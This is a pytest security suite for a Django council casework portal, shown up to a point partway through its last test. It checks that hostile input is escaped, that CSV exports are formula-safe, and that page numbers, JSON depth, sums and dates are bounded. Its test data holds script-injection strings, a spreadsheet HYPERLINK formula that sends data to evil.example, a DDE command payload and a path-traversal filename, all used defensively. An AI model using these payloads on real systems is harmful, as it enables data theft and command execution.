"""Bad input: hostile, oversized and wrongly typed values get a clear message and never a 500;
the browser keeps what was typed; CSV exports cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest

from tests.security.conftest import AS_OF
from tests.security.worlds import Call, raise_conduct_complaint, run_rolled_back

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_TEXT = [SCRIPT, FORMULA, "+1+1", "-2+3", "@SUM(A1)", "x" * 100_000, "\x00nul", "é" * 300]
WRONG_TYPES = [[], {"a": 1}, 12345, True, None]


def test_enquiry_form_keeps_hostile_input_escaped_and_never_errors(frozen_world, client, capsys):
    world = frozen_world("enquiries")
    org = world.extra["org"]
    client.force_login(org.raiser.person)
    examples = 0
    for value in HOSTILE_TEXT:
        examples += 1
        response, _ = run_rolled_back(
            Call("POST", "/enquiries/new/", {"subject": value, "description": value}), client
        )
        assert response.status_code in (200, 400), response.status_code
        body = response.content.decode()
        assert "govuk-error-summary" in body, "the form is re-rendered with its errors"
        assert SCRIPT not in body, "what was typed is escaped, never run"
        if value == SCRIPT:
            assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in body, "and kept"
    with capsys.disabled():
        print(f"\n[bad input] enquiry form: {examples} hostile examples re-rendered, 0 errors")


def test_api_answers_wrong_types_and_foreign_ids_with_400(frozen_world, client, capsys):
    world = frozen_world("enquiries")
    org, away = world.extra["org"], world.extra["away"]
    case = world.cases["received"]
    client.force_login(case.owner_post.holder)
    base = f"/api/v1/enquiries/{case.reference}/"
    bodies = [{"reason": v, "to_post": v} for v in WRONG_TYPES + HOSTILE_TEXT[:3]]
    bodies.append({"to_post": away.ce.slug, "reason": "Foreign post"})  # another council's post
    bodies.append({"officer": away.ce.holder.username})
    examples = 0
    for action in ("reassign", "clarify", "respond", "involved", "flags"):
        for body in bodies:
            examples += 1
            response, _ = run_rolled_back(Call("POST", f"{base}{action}/", body, api=True), client)
            assert response.status_code < 500, (action, body, response.status_code)
            if response.status_code == 400:
                assert response.json(), "400 names the fields"
    client.force_login(org.raiser.person)
    for body in bodies:
        examples += 1
        response, _ = run_rolled_back(Call("POST", "/api/v1/enquiries/", body, api=True), client)
        assert response.status_code == 400, (body, response.status_code)
        assert response.json()
    with capsys.disabled():
        print(f"\n[bad input] enquiry API: {examples} malformed or foreign bodies, 0 server errors")


def test_csv_exports_neutralise_formulas(frozen_world, client):
    from enquiries import services

    world = frozen_world("enquiries")
    case = world.cases["received"]
    services.enquiry_close(enquiry=case, reason=FORMULA, actor=case.owner_post.holder, as_of=AS_OF)
    client.force_login(case.owner_post.holder)
    response = client.get(f"/enquiries/{case.reference}/export.csv")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert any(FORMULA in c for c in cells), "the hostile text is exported"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "but never as a formula"


# --------------------------------------------------------------------- complaints and interests


def _form_keeps_what_was_typed(client, url: str, data: dict, typed: list[str]) -> int:
    """Post each hostile value into the typed fields (the form stays invalid because `data`
    leaves a required field out): re-rendered with its errors, escaped, nothing lost."""
    examples = 0
    for value in HOSTILE_TEXT:
        examples += 1
        body = dict(data) | dict.fromkeys(typed, value)
        response, _ = run_rolled_back(Call("POST", url, body), client)
        assert response.status_code in (200, 400), (url, value[:20], response.status_code)
        page = response.content.decode()
        assert "govuk-error-summary" in page, (url, "the form is re-rendered with its errors")
        assert SCRIPT not in page, (url, "what was typed is escaped, never run")
        if typed and value in (SCRIPT, FORMULA, "x" * 100_000):
            from django.utils.html import escape

            assert escape(value) in page, (url, value[:20], "what was typed is kept")
    return examples


def _api_never_errors(client, url: str, bodies: list[dict], *, foreign: list[dict]) -> int:
    """Wrongly typed and hostile bodies: never a 500, a 400 names the fields; a body naming
    another council's objects is refused (never 2xx)."""
    examples = 0
    for body in bodies:
        examples += 1
        response, _ = run_rolled_back(Call("POST", url, body, api=True), client)
        assert response.status_code < 500, (url, body, response.status_code)
        if response.status_code == 400:
            assert response.json(), "400 names the fields"
    for body in foreign:
        examples += 1
        response, _ = run_rolled_back(Call("POST", url, body, api=True), client)
        assert response.status_code in (400, 403, 404), (url, body, response.status_code)
    return examples


def _typed(fields: list[str]) -> list[dict]:
    return [dict.fromkeys(fields, v) for v in WRONG_TYPES + HOSTILE_TEXT[:3] + ["x" * 100_000]]


def test_complaint_forms_and_api_handle_hostile_input(frozen_world, client, capsys):
    world = frozen_world("complaints")
    o, away = world.extra["org"], world.extra["away"]
    complainant, handler = world.people["complainant"], world.people["handler"]
    received = world.cases["received"]
    forms = 0
    client.force_login(complainant)
    # The kind is left out, so the form is always re-rendered.
    forms += _form_keeps_what_was_typed(
        client,
        "/complaints/new/",
        {"council": o.council.pk, "subject_post": o.officer.pk},
        ["summary", "details"],
    )
    client.force_login(handler)
    forms += _form_keeps_what_was_typed(
        client,
        f"/complaints/{received.pk}/acknowledge/",
        {"intent": "needs_time", "outcome_due_on": "not a date"},
        ["message"],
    )
    forms += _form_keeps_what_was_typed(
        client,
        f"/complaints/{world.cases['investigating'].pk}/outcome/",
        {"action_taken": "yes"},
        ["reasons"],
    )
    # Foreign ids in the browser: another council's post is not a choice.
    response, _ = run_rolled_back(
        Call(
            "POST",
            f"/complaints/{world.cases['acknowledged'].pk}/investigator/",
            {"investigator_post": away.ce.pk},
        ),
        client,
    )
    assert response.status_code == 400, response.status_code
    assert "govuk-error-summary" in response.content.decode()
    forms += 1

    api = 0
    base = f"/api/v1/complaints/{received.reference}/"
    api += _api_never_errors(
        client,
        f"{base}acknowledge/",
        _typed(["intent", "message", "outcome_due_on"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['acknowledged'].reference}/nominate-investigator/",
        _typed(["investigator_post"]),
        foreign=[{"investigator_post": away.ce.pk}, {"investigator_post": away.ce.slug}],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['investigating'].reference}/outcome/",
        _typed(["outcome", "reasons", "action_taken", "disciplinary_notes"]),
        foreign=[],
    )
    api += _api_never_errors(client, f"{base}release-to-subject/", _typed(["text"]), foreign=[])
    client.force_login(complainant)
    create = {"council": o.council.slug, "kind": "concern_about_officer", "summary": "Rude"}
    api += _api_never_errors(
        client,
        "/api/v1/complaints/",
        _typed(["council", "kind", "subject_post", "subject_member", "summary", "details"]),
        foreign=[
            create | {"subject_post": away.ce.pk},
            create | {"council": away.council.slug, "subject_post": o.officer.pk},
            {
                "council": o.council.slug,
                "kind": "code_of_conduct",
                "subject_member": away.member.pk,
            },
        ],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/complaints/{world.cases['outcome_issued'].reference}/respond/",
        _typed(["choice", "reason"]),
        foreign=[],
    )
    with capsys.disabled():
        print(
            f"\n[bad input] complaint forms: {forms} hostile examples re-rendered and kept; "
            f"complaint API: {api} malformed or foreign bodies, 0 server errors"
        )


def test_interest_forms_and_api_handle_hostile_input(frozen_world, settings, tmp_path, capsys):
    from django.test import Client

    from tests.security.worlds import WORLDS, interests_cast

    assert frozen_world  # the clock is frozen at AS_OF; the cast below is shared
    cast = interests_cast(AS_OF)
    worlds = {
        name: WORLDS[name](AS_OF, settings, tmp_path, cast=cast)
        for name in ("register_entries", "acting_against_notices", "advice_requests")
    }
    o, away, people = cast
    member, mo = people["member"], people["monitoring_officer"]
    client = Client()
    client.force_login(member)
    council = o.council.pk
    forms = 0
    forms += _form_keeps_what_was_typed(
        client,
        "/interests/relationships/new/",
        {"council": council, "other_person": people["related_person"].pk, "nature": "nope"},
        ["details"],
    )
    forms += _form_keeps_what_was_typed(
        client, "/interests/register/", {"council": council, "category": "nope"}, ["description"]
    )
    forms += _form_keeps_what_was_typed(
        client,
        "/interests/acting-against/new/",
        {"council": council, "acting_party": "spouse_partner", "capacity": "nope"},
        ["acting_party_name", "action"],
    )
    forms += _form_keeps_what_was_typed(
        client, "/interests/advice/new/", {"council": council, "confidential": "maybe"}, ["matter"]
    )
    # Foreign ids in the browser: a person of another council cannot be named.
    response, _ = run_rolled_back(
        Call(
            "POST",
            "/interests/relationships/new/",
            {"council": council, "other_person": away.ce.holder.pk, "nature": "family"},
        ),
        client,
    )
    assert response.status_code == 400, response.status_code
    forms += 1

    api = 0
    slug = o.council.slug
    api += _api_never_errors(
        client,
        "/api/v1/interests/relationships/",
        _typed(["council", "other_person", "nature", "since", "details"]),
        foreign=[
            {"council": slug, "other_person": away.ce.holder.username, "nature": "family"},
            {"council": slug, "other_person": away.ce.holder.pk, "nature": "family"},
            {"council": away.council.slug, "other_person": people["related_person"].pk},
        ],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/register-entries/",
        _typed(["council", "category", "description", "value_pounds", "received_on"]),
        foreign=[{"council": away.council.slug, "category": "land", "description": "Home"}],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/acting-against-notices/",
        _typed(["council", "acting_party", "acting_party_name", "capacity", "action"]),
        foreign=[
            {
                "council": away.council.slug,
                "acting_party": "self",
                "capacity": "private",
                "action": "Judicial review",
            }
        ],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/advice-requests/",
        _typed(["council", "question", "matter", "confidential"]),
        foreign=[{"council": away.council.slug, "question": "Declare?"}],
    )
    api += _api_never_errors(
        client,
        "/api/v1/interests/conflict-check/",
        _typed(["council", "person", "kind", "people", "posts", "directorate", "committee"]),
        foreign=[{"council": away.council.slug, "person": away.ce.holder.pk, "kind": "complaint"}],
    )
    client.force_login(mo)
    entry = worlds["register_entries"].cases["registered"]
    notice = worlds["acting_against_notices"].cases["submitted"]
    advice = worlds["advice_requests"].cases["requested"]
    forms += _form_keeps_what_was_typed(
        client, f"/interests/register/interests/{entry.pk}/sensitivity/", {"agreed": "perhaps"}, []
    )
    forms += _form_keeps_what_was_typed(
        client, f"/interests/advice/{advice.pk}/", {"advice": ""}, []
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/register-entries/{entry.pk}/sensitivity/",
        _typed(["agreed"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/acting-against-notices/{notice.pk}/acknowledge/",
        _typed(["response"]),
        foreign=[],
    )
    api += _api_never_errors(
        client,
        f"/api/v1/interests/advice-requests/{advice.pk}/advise/",
        _typed(["advice"]),
        foreign=[],
    )
    with capsys.disabled():
        print(
            f"\n[bad input] interest forms: {forms} hostile examples re-rendered and kept; "
            f"interest API: {api} malformed or foreign bodies, 0 server errors"
        )


def test_every_csv_export_neutralises_formulas(frozen_world, client, capsys):
    """Spreadsheet formulas typed into, or named in, anything a CSV export carries: the
    enquiries SLA dashboard (directorate names) and the complaints Standards summary (post
    titles, directorates)."""
    from complaints import services as complaint_services

    world = frozen_world("complaints")
    o = world.extra["org"]
    raise_conduct_complaint(o)
    o.mo.title = FORMULA  # the summary names the post handling each breach
    o.mo.save()
    summary = complaint_services.summary_generate(
        council=o.council, start=AS_OF.date().replace(day=1), end=AS_OF.date(), as_of=AS_OF
    )
    client.force_login(world.people["line_manager"])
    exports = []
    for url in (
        f"/complaints/summaries/{summary.pk}/csv/",
        f"/api/v1/complaint-summaries/{summary.pk}/csv/",
    ):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        exports.append((url, response.content.decode()))
    e_world = frozen_world("enquiries")
    e_org = e_world.extra["org"]
    e_org.housing.name = "=cmd|' /C calc'!A0"
    e_org.housing.save()
    for state in ("responded", "closed"):
        assert e_world.cases[state].status == state
    client.force_login(e_org.ce.holder)
    response = client.get("/enquiries/dashboard.csv")
    assert response.status_code == 200, response.status_code
    exports.append(("/enquiries/dashboard.csv", response.content.decode()))
    cells = 0
    for url, text in exports:
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, (url, "the export has rows")
        for cell in (c for row in rows for c in row):
            cells += 1
            assert cell[:1] not in ("=", "+", "-", "@"), (url, cell)
    with capsys.disabled():
        print(f"\n[bad input] {len(exports)} CSV exports, {cells} cells: 0 formulas")


# --------------------------------------------------------------------- need-to-know requests


def _upload(client, url: str, name: str, content: bytes, data: dict, *, api: bool):
    """A multipart POST with one file (page or API), rolled back."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.db import transaction

    with transaction.atomic():
        upload = SimpleUploadedFile(name, content, content_type="application/pdf")
        response = client.post(
            url, data | {"file": upload}, **({"HTTP_ACCEPT": "*/*"} if api else {})
        )
        transaction.set_rollback(True)
    return response


def test_access_request_forms_and_api_handle_hostile_input(frozen_world, capsys):  # noqa: C901
    """The request form and every action form (decide, refer, dispute, withdraw, FOI, release,
    the FOI answer) and their API endpoints: hostile and wrongly typed input, foreign ids and
    disguised files get a clear message, never a 500; the page keeps what was typed; what was
    accepted is shown escaped. Need-to-know requests have no CSV export (nothing to inject)."""
    from django.test import Client
    from django.utils.html import escape

    from access_requests import services
    from protocol_portal.org.models import Committee
    from tests.factories import DirectorateFactory
    from tests.security.worlds import access_asks

    world = frozen_world("access_requests")
    cast, cases, people = world.extra["cast"], world.cases, world.people
    away = cast.away
    away_directorate = DirectorateFactory(council=away.council, slug="elsewhere-housing")
    away_committee = Committee.objects.create(
        council=away.council, slug="elsewhere-cabinet", name="Elsewhere Cabinet"
    )
    requester, holder = Client(), Client()
    requester.force_login(people["requester"])
    holder.force_login(people["holder"])
    council = cast.council
    forms = 0

    # The request form: the purpose is left out, so it is always re-rendered.
    ask = {"council": council.pk, "directorate": cast.housing.pk, "for_meeting": "no"}
    forms += _form_keeps_what_was_typed(
        requester, "/access-requests/new/", ask, ["what", "justification"]
    )
    # Foreign ids in the browser: another council's directorate or committee is not a choice.
    for extra in (
        {"directorate": away_directorate.pk},
        {"for_meeting": "yes", "committee": away_committee.pk, "part": "part_1"},
        {"council": away.council.pk},
        {"matter_ward": 10**9, "meeting_date-day": "31", "meeting_date-month": "2"},
    ):
        body = ask | {"what": "Papers", "purpose": "other", "action": "submit"} | extra
        response, _ = run_rolled_back(Call("POST", "/access-requests/new/", body), requester)
        assert response.status_code == 400, (extra, response.status_code)
        assert "govuk-error-summary" in response.content.decode()
        forms += 1

    def action(name: str, case: str) -> str:
        return f"/access-requests/{cases[case].pk}/{name}/"

    # The decision form: an unknown outcome keeps it invalid.
    forms += _form_keeps_what_was_typed(
        holder, action("decide", "submitted"), {"outcome": "perhaps"}, ["reasons"]
    )
    # Reasons forms: the text is valid, the move is not, so the service's refusal re-renders
    # the form with the member's or officer's words kept.
    forms += _form_keeps_what_was_typed(holder, action("refer", "submitted"), {}, ["reasons"])
    forms += _form_keeps_what_was_typed(holder, action("foi", "granted"), {}, ["reasons"])
    forms += _form_keeps_what_was_typed(
        requester, action("dispute", "refused_final"), {}, ["reasons"]
    )
    forms += _form_keeps_what_was_typed(requester, action("withdraw", "granted"), {}, ["reasons"])
    forms += _form_keeps_what_was_typed(
        holder, action("release", "refused"), {}, ["title", "redactions"]
    )
    # Disguised files: a page named .pdf, a script, an empty file.
    uploads = [
        ("report.pdf", b"<html><script>alert(1)</script></html>"),
        ("report.html", b"<script>alert(1)</script>"),
        ("empty.pdf", b""),
        ("../../etc/passwd.txt", b"root:x:0:0\x00\x01"),
    ]
    for name, content in uploads:
        url = action("release", "granted")
        page = _upload(holder, url, name, content, {"title": SCRIPT}, api=False)
        assert page.status_code == 400, (name, page.status_code)
        text = page.content.decode()
        assert "govuk-error-summary" in text
        assert SCRIPT not in text
        assert escape(SCRIPT) in text, "the title typed is kept"
        api_url = f"/api/v1/access-requests/{cases['granted'].reference}/release/"
        answer = _upload(holder, api_url, name, content, {"title": "Contract"}, api=True)
        assert answer.status_code == 400, (name, answer.status_code)
        assert "file" in answer.json()
        forms += 2

    api = 0
    base = "/api/v1/access-requests/"
    fields = [
        "council",
        "what",
        "directorate",
        "purpose",
        "justification",
        "for_meeting",
        "committee",
        "meeting_date",
        "part",
        "matter_ward",
        "contract_information",
        "wants_foi",
    ]
    good = {
        "council": council.slug,
        "what": "Papers",
        "directorate": cast.housing.slug,
        "purpose": "other",
        "justification": "For the panel.",
    }
    foreign = [
        good | {"council": away.council.slug},
        good | {"directorate": away_directorate.slug},
        good | {"for_meeting": True, "committee": away_committee.slug, "part": "part_1"},
        good | {"matter_ward": "elsewhere-ward"},
    ]
    for url in (base, f"{base}preview/"):
        api += _api_never_errors(requester, url, _typed(fields), foreign=foreign)
    for name, case, client_, typed in (
        ("decide", "submitted", holder, ["outcome", "grounds", "reasons", "consulted"]),
        ("decide", "disputed", holder, ["outcome", "grounds", "reasons", "referred_to_body"]),
        ("refer", "submitted_presumed", holder, ["reasons"]),
        ("foi", "submitted", holder, ["reasons"]),
        ("release", "granted", holder, ["title", "redactions", "file"]),
        ("dispute", "refused", requester, ["reasons"]),
        ("withdraw", "submitted", requester, ["reasons"]),
    ):
        api += _api_never_errors(
            client_,
            f"{base}{cases[case].reference}/{name}/",
            _typed(typed),
            foreign=[{"outcome": "refused", "reasons": "No.", "consulted": away.member.pk}]
            if name == "decide" and case == "disputed"
            else [],
        )
    # Ids that are not ids, and a document of another request.
    granted, other = cases["granted"], cases["submitted"]
    release = granted.releases.get()
    for url in (
        f"{base}not-a-number/",
        f"{base}{granted.reference}/releases/{release.pk}x/file/",
        f"{base}{other.reference}/releases/{release.pk}/file/",
        f"{base}{10**12}/access-log/",
        f"/access-requests/{other.pk}/releases/{release.pk}/",
        f"{base}?status=<script>&presumption=1&stage[]=x",
    ):
        response = holder.get(url)
        assert response.status_code in (200, 400, 404), (url, response.status_code)
        if response.status_code == 200:
            assert SCRIPT not in response.content.decode()
        api += 1

    # The FOI answer (page and API): anything typed is accepted, then shown escaped.
    foi = cases["foi"].foi
    handler = Client()
    handler.force_login(people["foi_team"])
    api += _api_never_errors(
        handler, f"/api/v1/foi-requests/{foi.pk}/answer/", _typed(["response"]), foreign=[]
    )
    for value in HOSTILE_TEXT:
        response, _ = run_rolled_back(
            Call("POST", f"/access-requests/foi/{foi.pk}/answer/", {"response": value}), handler
        )
        assert response.status_code in (302, 400), (value[:20], response.status_code)
        forms += 1

    # What was accepted is shown escaped, to the member and to the officers.
    justify = access_asks(cast)[1]
    hostile = services.access_request_submit(
        council=council,
        requester=people["requester"],
        ask=type(justify)(**{**justify.__dict__, "what": SCRIPT, "justification": FORMULA}),
        as_of=AS_OF,
    )
    services.foi_answer(foi=foi, actor=people["foi_team"], response=SCRIPT, as_of=AS_OF)
    shown = 0
    for client_, url in (
        (requester, f"/access-requests/{hostile.pk}/"),
        (holder, f"/access-requests/{hostile.pk}/"),
        (requester, "/access-requests/"),
        (requester, f"/access-requests/foi/{foi.pk}/"),
    ):
        page = client_.get(url).content.decode()
        assert SCRIPT not in page, url
        assert escape(SCRIPT) in page, url
        shown += 1
    with capsys.disabled():
        print(
            f"\n[bad input] need-to-know forms: {forms} hostile, foreign or disguised examples "
            f"re-rendered and kept; need-to-know API: {api} malformed or foreign bodies and ids, "
            f"0 server errors; {shown} pages show accepted hostile text escaped"
        )


# --------------------------------------------------------------------- bounds (probe F8, F10)

HUGE_PAGES = [2**62, 2**63, 10**19, 10**17, 1_000_001, -(2**63), 0, "1e400", "NaN", "\x00"]


def _api_lists() -> list[str]:
    """Every list the API router serves: /api/v1/<prefix>/."""
    import protocol_portal.urls  # noqa: F401 - the case apps register their viewsets
    from protocol_portal.api import router

    return [
        f"/api/v1/{prefix}/" for prefix, viewset, _ in router.registry if hasattr(viewset, "list")
    ]


def test_every_list_answers_a_huge_page_number_without_an_error(frozen_world, client, capsys):
    """Security probe F8: `?page=2**62` reached the database as an OFFSET past a 64-bit integer
    (a 500). Every API list answers a page past the end or past the bound with 404 "Invalid
    page.", and every list page on the site shows a page, as officer and as member."""
    world = frozen_world("enquiries")
    org = world.extra["org"]
    case = world.cases["received"]
    lists = _api_lists()
    assert len(lists) >= 10, lists
    pages = [
        "/",
        "/enquiries/",
        "/enquiries/queue/",
        "/enquiries/queue/?scope=triage",
        "/enquiries/dashboard/",
        "/complaints/",
        "/interests/",
        "/access-requests/",
    ]
    examples = 0
    for person in (case.owner_post.holder, org.raiser.person, org.ce.holder):
        client.force_login(person)
        for url in lists:
            for page in HUGE_PAGES:
                examples += 1
                response = client.get(url, {"page": page})
                assert response.status_code in (200, 403, 404), (url, page, response.status_code)
                if response.status_code == 404:
                    assert response.json() == {"detail": "Invalid page."}, (url, page)
                if isinstance(page, int) and page > 1:
                    assert response.status_code != 200, (url, page, "past the end: no page")
        for url in pages:
            for page in HUGE_PAGES:
                examples += 1
                response = client.get(url, {"page": page}, follow=True)
                assert response.status_code in (200, 403), (url, page, response.status_code)
    with capsys.disabled():
        print(f"\n[bad input] {examples} huge or malformed page numbers, 0 server errors")


def _nested(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def _deep_lists(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_every_api_endpoint_refuses_json_nested_too_deeply(frozen_world, client, capsys):
    """Security probe F8: JSON nested 5,000 deep raised RecursionError in the parser (a 500).
    Every route the API router serves that takes a body parses it with the bounded parser, so
    5,000 deep (and 33, past the bound) is a 400 with its reason; and over HTTP the create
    endpoints of every case type say so."""
    from rest_framework.exceptions import ParseError
    from rest_framework.test import APIRequestFactory

    import protocol_portal.urls  # noqa: F401 - the case apps register their viewsets
    from protocol_portal.api import router
    from protocol_portal.api_parsers import JSON_DEPTH_MOST, TOO_DEEP

    world = frozen_world("enquiries")
    org = world.extra["org"]
    factory = APIRequestFactory()
    routes = 0
    for pattern in router.urls:
        view = pattern.callback
        actions = getattr(view, "actions", None) or {}
        for method in set(actions) & {"post", "put", "patch"}:
            for body in (_nested(5_000), _deep_lists(5_000), _nested(JSON_DEPTH_MOST + 1)):
                instance = view.cls(**view.initkwargs)
                instance.action_map = actions
                instance.action = actions[method]
                request = instance.initialize_request(
                    getattr(factory, method)("/", body, content_type="application/json")
                )
                with pytest.raises(ParseError, match="nested too deeply"):
                    request.data  # noqa: B018 - parsing is what is tested
            # A body at the bound still parses.
            request = instance.initialize_request(
                getattr(factory, method)(
                    "/", _nested(JSON_DEPTH_MOST), content_type="application/json"
                )
            )
            assert request.data
            routes += 1
    assert routes >= 30, routes

    client.force_login(org.raiser.person)
    answered = 0
    for url in (
        "/api/v1/enquiries/",
        "/api/v1/complaints/",
        "/api/v1/interests/register-entries/",
        "/api/v1/interests/relationships/",
        "/api/v1/interests/acting-against-notices/",
        "/api/v1/interests/advice-requests/",
        "/api/v1/interests/conflict-check/",
        "/api/v1/access-requests/",
    ):
        for body in (_nested(5_000), _deep_lists(5_000)):
            response = client.post(url, body, content_type="application/json")
            assert response.status_code == 400, (url, response.status_code)
            assert response.json() == {"detail": TOO_DEEP}, url
            answered += 1
    with capsys.disabled():
        print(
            f"\n[bad input] JSON 5,000 deep: {routes} API routes with a body refuse it; "
            f"{answered} HTTP posts answered 400 with the reason"
        )


MONEY_TOO_MUCH = "Enter an amount of £1,000,000 or less"


def _refused(response, field: str, message: str, *, api: bool) -> None:
    """A 400 that names the field with the GOV.UK message (API) or shows it (page)."""
    assert response.status_code == 400, (field, response.status_code)
    if api:
        assert message in str(response.json().get(field)), (field, response.json())
    else:
        from django.utils.html import escape

        page = response.content.decode()
        assert "govuk-error-summary" in page
        assert escape(message) in page, (field, message)


def _accepted(response) -> None:
    assert response.status_code in (200, 201, 302), response.status_code


def test_money_has_a_bound_with_a_govuk_message(frozen_world, capsys):
    """Security probe F8: a gift worth 2**70 pounds was a 500 (OverflowError) and 2**40 was
    published. The register form and API refuse anything over £1,000,000, which also keeps
    every value inside PostgreSQL's integer column (2**31 - 1)."""
    from django.test import Client

    from tests.security.worlds import interests_cast

    assert frozen_world
    o, _, people = interests_cast(AS_OF)
    client = Client()
    client.force_login(people["member"])
    gift = {
        "category": "gift",
        "whose": "member",
        "description": "Dinner at the Ritz",
        "donor": "Acme Ltd",
        "received_on": "2026-02-20",
    }
    examples = 0
    for value in (1180591620717411303424, 2**63, 2**40, 2**31, 1_000_001):
        examples += 2
        form = gift | {"council": o.council.pk, "value_pounds": value}
        response, _ = run_rolled_back(Call("POST", "/interests/register/", form), client)
        _refused(response, "value_pounds", MONEY_TOO_MUCH, api=False)
        body = gift | {"council": o.council.slug, "value_pounds": value}
        url = "/api/v1/interests/register-entries/"
        response, _ = run_rolled_back(Call("POST", url, body, api=True), client)
        _refused(response, "value_pounds", MONEY_TOO_MUCH, api=True)
    # The bound itself is a value a member may declare.
    form = gift | {"council": o.council.pk, "value_pounds": 1_000_000}
    _accepted(run_rolled_back(Call("POST", "/interests/register/", form), client)[0])
    body = gift | {"council": o.council.slug, "value_pounds": 1_000_000}
    url = "/api/v1/interests/register-entries/"
    _accepted(run_rolled_back(Call("POST", url, body, api=True), client)[0])
    with capsys.disabled():
        print(f"\n[bad input] {examples} sums past £1,000,000 refused with the GOV.UK message")


# Relative to AS_OF, Monday 2 March 2026.
NEVER = ["9999-12-31", "0001-01-01"]


def _date_cases(world_names):  # noqa: C901 - one table of every date a person types
    """(who, form url, form data, api url, api body, field, {value: message or None}): None
    means accepted. Every form and endpoint that takes a date."""
    from tests.security.worlds import interests_cast

    cases = []
    if "complaints" in world_names:
        world = world_names["complaints"]
        o = world.extra["org"]
        handler, mo = world.people["handler"], o.mo.holder
        received = world.cases["received"]
        ack = {"intent": "needs_time", "message": "We are looking into it."}
        outcome = "The date for the outcome"
        cases.append(
            (
                handler,
                f"/complaints/{received.pk}/acknowledge/",
                ack,
                f"/api/v1/complaints/{received.reference}/acknowledge/",
                ack,
                "outcome_due_on",
                {
                    "9999-12-31": f"{outcome} must be the same as or before 2 June 2026",
                    "2026-06-03": f"{outcome} must be the same as or before 2 June 2026",
                    "0001-01-01": f"{outcome} must be today or in the future",
                    "2026-06-02": None,
                    "2026-03-02": None,
                },
            )
        )
        started = "Choose a quarter that has started: the latest is quarter 1 of 2026"
        for year, quarter, message in ((2100, 4, started), (2026, 2, started), (2026, 1, None)):
            cases.append(
                (
                    mo,
                    "/complaints/summaries/",
                    {"council": o.council.pk, "quarter": quarter},
                    "/api/v1/complaint-summaries/generate/",
                    {"council": o.council.slug, "quarter": quarter},
                    ("year", "quarter"),
                    {year: message},
                )
            )
    if "interests" in world_names:
        o, _, people = interests_cast(AS_OF)
        member = people["member"]
        related = people["related_person"]
        relationship = {"other_person": related.pk, "nature": "family"}
        began = "The date the relationship began"
        cases.append(
            (
                member,
                "/interests/relationships/new/",
                relationship | {"council": o.council.pk},
                "/api/v1/interests/relationships/",
                relationship | {"council": o.council.slug},
                "since",
                {
                    "9999-12-31": f"{began} must be today or in the past",
                    "2026-03-03": f"{began} must be today or in the past",
                    "0001-01-01": f"{began} must be the same as or after 1 January 1900",
                    "1899-12-31": f"{began} must be the same as or after 1 January 1900",
                    "1900-01-01": None,
                },
            )
        )
        gift = {
            "category": "gift",
            "whose": "member",
            "description": "Dinner",
            "donor": "Acme Ltd",
            "value_pounds": 120,
        }
        for field, what in (
            ("received_on", "The date received"),
            ("became_aware_on", "The date you became aware of it"),
        ):
            cases.append(
                (
                    member,
                    "/interests/register/",
                    gift | {"council": o.council.pk},
                    "/api/v1/interests/register-entries/",
                    gift | {"council": o.council.slug},
                    field,
                    {
                        "9999-12-31": f"{what} must be today or in the past",
                        "0001-01-01": f"{what} must be the same as or after 1 January 1900",
                        "2026-03-01": None,
                    },
                )
            )
        notice = {"acting_party": "self", "capacity": "private", "action": "Judicial review"}
        start = "The date it will start"
        cases.append(
            (
                member,
                "/interests/acting-against/new/",
                notice | {"council": o.council.pk},
                "/api/v1/interests/acting-against-notices/",
                notice | {"council": o.council.slug},
                "expected_on",
                {
                    "0001-01-01": f"{start} must be the same as or after 2 March 2025",
                    "2025-03-01": f"{start} must be the same as or after 2 March 2025",
                    "9999-12-31": f"{start} must be the same as or before 2 March 2028",
                    "2028-03-03": f"{start} must be the same as or before 2 March 2028",
                    "2025-03-02": None,
                    "2028-03-02": None,
                },
            )
        )
    if "access_requests" in world_names:
        world = world_names["access_requests"]
        cast = world.extra["cast"]
        ask = {
            "what": "Planning Committee report",
            "purpose": "other",
            "justification": "It is on the agenda.",
            "part": "part_1",
        }
        meeting = "The date of the meeting"
        cases.append(
            (
                world.people["requester"],
                "/access-requests/new/",
                ask
                | {
                    "council": cast.council.pk,
                    "directorate": cast.housing.pk,
                    "for_meeting": "yes",
                    "committee": cast.planning.pk,
                    "action": "submit",
                },
                "/api/v1/access-requests/",
                ask
                | {
                    "council": cast.council.slug,
                    "directorate": cast.housing.slug,
                    "for_meeting": True,
                    "committee": cast.planning.slug,
                },
                "meeting_date",
                {
                    "9999-12-31": f"{meeting} must be the same as or before 2 March 2027",
                    "2027-03-03": f"{meeting} must be the same as or before 2 March 2027",
                    "0001-01-01": f"{meeting} must be the same as or after 2 March 2025",
                    "2027-03-02": None,
                },
            )
        )
    return cases


def _form_value(url: str, field, value) -> dict:
    """The field as the page posts it: a GOV.UK day/month/year date on the need-to-know form,
    a year and quarter on the summary form, else the ISO date of a date input."""
    if isinstance(field, tuple):
        return {"year": value}
    if url.startswith("/access-requests/"):
        year, month, day = value.split("-")
        return {f"{field}_day": day, f"{field}_month": month, f"{field}_year": year}
    return {field: value}


def test_every_date_a_person_types_is_bounded(frozen_world, capsys):
    """Security probe F10: an outcome due on 31 December 9999 was accepted (so never chased),
    an acting-against notice starting on 1 January 0001, a summary of 2100's last quarter.
    Every form and endpoint that takes a date refuses one outside its window with GOV.UK's
    date message, and takes one at the window's edge."""
    from django.test import Client

    worlds = {name: frozen_world(name) for name in ("complaints", "access_requests")}
    worlds["interests"] = True
    refused = accepted = 0
    client = Client()
